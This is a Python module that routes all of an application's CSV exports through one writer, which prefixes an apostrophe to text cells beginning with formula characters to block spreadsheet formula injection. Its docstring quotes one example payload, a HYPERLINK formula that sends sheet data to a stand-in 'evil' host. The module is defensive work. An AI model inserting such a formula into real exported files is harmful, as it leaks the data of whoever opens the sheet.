"""CSV for every export (audit log, golden sets, eval runs, prices, cost tables): one writer, so
no export can forget that a spreadsheet runs a cell starting with `=`, `+`, `-`, `@`, a tab or a
carriage return as a formula (`=HYPERLINK("http://evil/?"&A1)` sends the sheet's data out).
Such text cells get a leading `'`, which spreadsheets show as text; numbers stay numbers."""
from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal
from typing import Any, Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell: text a spreadsheet would run as a formula is quoted with `'`;
    datetimes as ISO text, None as empty. Numbers are left alone (-0.05 is a number, not a formula)."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, (int, float, Decimal)):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """CSV of a header and rows of cells, every cell through `safe_cell`."""
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(header)
    w.writerows([safe_cell(v) for v in row] for row in rows)
    return out.getvalue()


def csv_dicts(rows: Sequence[dict], fieldnames: Sequence[str] | None = None) -> str:
    """CSV of dict rows (columns: `fieldnames`, else every key in first-seen order)."""
    names = list(fieldnames) if fieldnames is not None else list(dict.fromkeys(k for r in rows for k in r))
    return csv_text(names, ([r.get(k) for k in names] for r in rows))


def frame_csv(df: Any) -> str:
    """CSV of a pandas DataFrame (pandas formats dates and missing values; cells made safe first)."""
    return df.map(lambda v: safe_cell(v) if isinstance(v, str) else v).to_csv(index=False)
